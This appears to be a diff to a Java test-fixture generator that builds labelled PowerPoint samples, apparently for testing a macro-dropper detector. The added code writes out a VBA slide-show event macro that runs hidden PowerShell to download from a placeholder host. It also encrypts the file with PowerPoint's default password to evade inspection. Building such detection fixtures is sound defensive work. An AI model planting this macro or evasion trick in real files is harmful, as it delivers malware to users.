@@ -15,7 +15,8 @@ import org.peekaboo.office.testing.PowerPointFiles;
  * add-in's Auto_Open or an ActiveX event on a slide and carries one of {@link DropperMacros}'
  * payloads, in presentations with slides as PowerPoint writes them (POI's HSLF), the VBA project
  * added by a fast-save edit compressed, uncompressed or without the VBAInfo pointer (as sloppy
- * generators write it), or inside a Word document embedded in the presentation; and
+ * generators write it), or inside a Word document embedded in the presentation, or encrypted
+ * with PowerPoint's default password; and
  * presentations with harmless macros. Words in modules only: nothing here can run.
  */
 final class DropperPowerPoint {
@@ -70,6 +71,14 @@ final class DropperPowerPoint {
                 "End Sub"));
         samples.add(new Sample("malicious", "pp%02d-embedded-doc-document-open.ppt".formatted(payloads.size() + 1),
                 PowerPointFiles.presentation(doc, "Lieferschein", "Doppelklick auf das Dokument")));
+        // PowerPoint opens a presentation encrypted with its default password without asking.
+        Map<String, String> pageChange = OfficeFiles.module("Module1",
+                "Sub OnSlideShowPageChange(ByVal SSW As SlideShowWindow)",
+                "    CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://example.invalid/e\", 0",
+                "End Sub");
+        samples.add(new Sample("malicious", "pp%02d-enc-default-password-slideshow-pagechange.pps"
+                .formatted(payloads.size() + 2), PowerPointFiles.encrypted(PowerPointFiles.withVba(
+                        PowerPointFiles.presentation("Vertraulich"), pageChange), "/01Hannes Ruescher/01")));
         return samples;
     }
 
